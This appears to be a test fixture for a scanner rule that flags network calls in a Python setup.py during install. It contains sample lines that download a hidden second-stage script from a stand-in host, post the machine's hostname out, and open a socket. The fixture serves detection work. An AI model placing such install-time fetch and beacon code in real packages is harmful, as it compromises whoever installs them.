# canary-test: path=setup.py artifact=sdist
# setup.py fetching a second stage while pip builds it.
import socket
import urllib.request

import requests
from setuptools import setup

# ruleid: SETUP_NETWORK_AT_INSTALL
urllib.request.urlretrieve("https://example.invalid/update.py", "/tmp/.update.py")
# ruleid: SETUP_NETWORK_AT_INSTALL
requests.post("https://example.invalid/installed", data={"host": socket.gethostname()}, timeout=2)
# ruleid: SETUP_NETWORK_AT_INSTALL
socket.create_connection(("example.invalid", 443), timeout=2).close()

setup(name="fetcher", version="0.1")
